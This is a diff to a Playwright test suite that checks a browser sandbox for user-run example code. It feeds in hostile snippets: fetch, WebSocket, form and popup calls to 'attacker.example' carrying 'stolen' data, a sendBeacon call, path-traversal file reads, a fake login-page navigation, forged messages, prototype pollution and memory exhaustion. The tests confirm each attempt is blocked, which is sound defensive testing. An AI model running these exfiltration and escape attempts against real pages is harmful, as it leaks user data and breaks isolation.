@@ -20,10 +20,15 @@ test.beforeEach(async ({ page }) => {
 });
 
 /** Runs an attack that logs how each attempt ended, and gives back what it logged. */
-async function attack(page: Page, code: string, limitMs = 4_000, until: 'time' | 'error' = 'time'): Promise<RunReport> {
+async function attack(
+  page: Page,
+  code: string,
+  until: 'done' | 'error' = 'done',
+  limitMs = 20_000,
+): Promise<RunReport> {
   return page.evaluate(
-    ([text, limit, end]) => window.runExample({ files: [{ name: 'main.ts', text }], until: end, limitMs: limit }),
-    [code, limitMs, until] as const,
+    ([text, end, limit]) => window.runExample({ files: [{ name: 'main.ts', text }], until: end, limitMs: limit }),
+    [code, until, limitMs] as const,
   );
 }
 
@@ -83,20 +88,19 @@ test('reaches no network: the site, other hosts, sockets, beacons, workers', asy
     const native = document.createElement('iframe'); document.body.append(native);
     const clean = native.contentWindow as any;
     await attempt('fetch', () => fetch('/'));
-    await attempt('clean fetch', () => clean.fetch('${server.url}?stolen=1'));
-    await attempt('fetch elsewhere', () => clean.fetch('https://attacker.example/?stolen=1'));
-    await attempt('clean xhr', () => new Promise((done, fail) => { const x = new clean.XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', '${server.url}?xhr=1'); x.send(); }));
+    await attempt('unpatched fetch', () => clean.fetch('${server.url}?stolen=1'));
+    await attempt('fetch elsewhere', () => fetch('https://attacker.example/?stolen=1'));
+    await attempt('xhr', () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', '${server.url}?xhr=1'); x.send(); }));
     await attempt('socket', () => new Promise((done, fail) => { const s = new WebSocket('ws://attacker.example'); s.onopen = done; s.onerror = fail; }));
     await attempt('event source', () => new Promise((done, fail) => { const s = new EventSource('${server.url}?es=1'); s.onopen = done; s.onerror = fail; }));
     await attempt('worker', () => new Promise((done, fail) => { const u = URL.createObjectURL(new Blob(['postMessage(1)'])); const k = new Worker(u); k.onmessage = done; k.onerror = fail; }));
     await attempt('script', () => new Promise((done, fail) => { const s = document.createElement('script'); s.src = '${server.url}harness.js'; s.onload = done; s.onerror = fail; document.head.append(s); }));
-    await attempt('image', () => new Promise((done, fail) => { const i = clean.document.createElement('img'); i.onload = done; i.onerror = fail; i.src = '${server.url}kit/hero.png?pixel=1'; document.body.append(i); }));
+    await attempt('image', () => new Promise((done, fail) => { const d = document.createElement('div'); d.innerHTML = '<img src="${server.url}kit/hero.png?pixel=1">'; const i = d.firstChild as HTMLImageElement; i.onload = done; i.onerror = fail; document.body.append(d); }));
     await attempt('style', () => new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${server.url}x.css'; l.onload = done; l.onerror = fail; document.head.append(l); }));
     await attempt('frame', () => new Promise((done, fail) => { const f = document.createElement('iframe'); f.src = '${server.url}?frame=1'; document.body.append(f); setTimeout(fail, 500); f.onload = () => { try { if (f.contentDocument === null) return; } catch {} }; }));
     await attempt('eval', () => (0, eval)('1 + 1'));
     navigator.sendBeacon?.('${server.url}?beacon=1', 'stolen');
     console.log('done');`,
-    6_000,
   );
   const lines = logged(report).filter((line) => line.includes(': '));
   expect(lines).toHaveLength(12);
@@ -113,9 +117,10 @@ test('cannot use the page to read files outside the kit', async ({ page }) => {
     await attempt('private', () => fetch('/harness.js').then((r) => r.text()));
     await attempt('up', () => fetch('/kit/../harness.js').then((r) => r.text()));
     await attempt('encoded', () => fetch('/kit/%2e%2e/harness.js').then((r) => r.text()));
-    await attempt('kit', () => fetch('/kit/hero.png').then((r) => r.blob()).then((b) => b.size > 0));`,
+    await attempt('kit', () => fetch('/kit/hero.png').then((r) => r.blob()).then((b) => b.size > 0));
+    console.log('done');`,
   );
-  expect(logged(report)).toEqual(['private: refused', 'up: refused', 'encoded: refused', 'kit: true']);
+  expect(logged(report)).toEqual(['private: refused', 'up: refused', 'encoded: refused', 'kit: true', 'done']);
   expect(report.errors[0]!.message).toContain('There is no asset "/harness.js". Available: /kit/');
 });
 
@@ -134,14 +139,15 @@ test('cannot navigate the page, open windows or dialogs', async ({ page }) => {
     await attempt('form', () => { const f = document.createElement('form'); f.action = 'https://attacker.example'; f.target = '_top'; document.body.append(f); f.submit(); });
     await attempt('popup', () => { if (window.open('https://attacker.example') === null) throw 0; });
     await attempt('dialog', () => { alert('x'); confirm('x'); prompt('x'); print(); });
-    await attempt('fullscreen', () => document.documentElement.requestFullscreen());`,
+    await attempt('fullscreen', () => document.documentElement.requestFullscreen());
+    console.log('done');`,
   );
   expect(popups).toEqual([]);
   await expectPageUnharmed(page);
 });
 
 test('is stopped when it leaves its own frame', async ({ page }) => {
-  const report = await attack(page, `location.href = 'data:text/html,<h1>Log in</h1>';`, 8_000, 'error');
+  const report = await attack(page, `location.href = 'data:text/html,<h1>Log in</h1>';`, 'error');
   expect(report.errors.at(-1)!.message).toBe('The example tried to leave its frame, so it was stopped.');
   expect(report.ended).toBe(true);
   await expectPageUnharmed(page);
@@ -157,15 +163,15 @@ test('cannot forge messages: wrong nonce, wrong window, wrong shape', async ({ p
     const inner = document.createElement('iframe');
     inner.srcdoc = '<script>parent.parent.postMessage({ type: "error", error: { message: "forged" } }, "*")</' + 'script>';
     document.body.append(inner);
-    console.log('sent');`,
+    inner.onload = () => setTimeout(() => console.log('done'), 300);`,
   );
   expect(report.errors).toEqual([]);
-  expect(logged(report)).toContain('sent');
+  expect(logged(report)).toContain('done');
   const other = await page.evaluate(async () => {
     const running = window.runExample({
-      files: [{ name: 'main.ts', text: 'console.log(1)' }],
-      until: 'time',
-      limitMs: 2_000,
+      files: [{ name: 'main.ts', text: 'setTimeout(() => console.log("done"), 300)' }],
+      until: 'done',
+      limitMs: 20_000,
     });
     window.postMessage({ type: 'error', error: { message: 'from the page itself' }, nonce: '' }, '*');
     return running;
@@ -183,6 +189,8 @@ test('cannot bend the page by prototypes', async ({ page }) => {
     console.log({ ['__proto__']: { polluted: 'yes' }, constructor: { prototype: { polluted: 'yes' } } });
     console.log(new Proxy({}, { ownKeys() { throw new Error('bent'); }, getPrototypeOf() { throw new Error('bent'); } }));
     console.log({ get x() { throw new Error('bent'); }, toString() { throw new Error('bent'); } });`,
+    'error',
+    5_000,
   );
   expect(await page.evaluate(() => ('polluted' in {} ? 'polluted' : JSON.stringify([1].map((x) => x))))).toBe('[1]');
   await expectPageUnharmed(page);
@@ -212,7 +220,7 @@ const RUNAWAYS: [name: string, code: string, message: RegExp][] = [
 ];
 for (const [name, code, message] of RUNAWAYS) {
   test(`is stopped with a message: ${name}`, async ({ page }) => {
-    const report = await attack(page, code, 20_000, 'error');
+    const report = await attack(page, code, 'error');
     expect(report.errors[0]?.message).toMatch(message);
     await expectPageUnharmed(page);
   });
@@ -220,7 +228,7 @@ for (const [name, code, message] of RUNAWAYS) {
 
 test('leaves the page free while it hangs', async ({ page }) => {
   let isOver = false;
-  const running = attack(page, RUNAWAYS.at(-1)![1], 20_000, 'error').finally(() => (isOver = true));
+  const running = attack(page, RUNAWAYS.at(-1)![1], 'error').finally(() => (isOver = true));
   let answers = 0;
   for (; !isOver; answers++) {
     await page.fill('#field', String(answers));
@@ -238,7 +246,7 @@ test('is stopped or refused when it takes memory without end', async ({ page }) 
     'console.log("x".repeat(2 ** 29).length); console.log("x".repeat(2 ** 30).length);',
   ];
   for (const code of attempts) {
-    const running = attack(page, code, 15_000, 'error');
+    const running = attack(page, code, 'error');
     await page.waitForTimeout(500);
     await page.fill('#field', 'the page answers meanwhile');
     const report = await running;
@@ -249,19 +257,15 @@ test('is stopped or refused when it takes memory without end', async ({ page }) 
 
 test('cannot take the keyboard, and debugger statements do nothing', async ({ page }) => {
   await page.focus('#field');
-  const running = attack(
+  const report = await attack(
     page,
     `window.focus(); document.body.focus();
     const b = document.createElement('button'); document.body.append(b); b.focus();
-    const inner = document.createElement('iframe'); document.body.append(inner);
-    (inner.contentWindow as any).HTMLElement.prototype.focus.call(b); inner.contentWindow!.focus();
+    const d = document.createElement('dialog'); d.innerHTML = '<input autofocus>'; document.body.append(d); d.showModal();
     debugger;
-    console.log('past the debugger');`,
-    3_000,
+    setTimeout(() => console.log('done'), 300);`,
   );
-  await page.waitForTimeout(1_500);
   await page.keyboard.type('typed');
-  const report = await running;
-  expect(logged(report)).toContain('past the debugger');
+  expect(logged(report)).toContain('done');
   expect(await page.inputValue('#field')).toBe('typed');
 });
